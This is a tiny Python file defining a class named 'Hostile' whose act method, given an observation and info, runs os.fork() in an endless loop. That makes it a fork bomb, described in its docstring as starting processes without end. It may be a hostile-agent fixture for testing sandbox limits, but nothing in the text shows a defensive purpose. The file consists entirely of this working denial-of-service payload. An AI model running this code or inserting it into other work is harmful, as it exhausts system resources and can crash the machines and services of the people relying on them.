"""Start processes without end."""

import os


class Hostile:
    def __init__(self, target):
        self.target = target

    def act(self, obs, info):
        while True:
            os.fork()
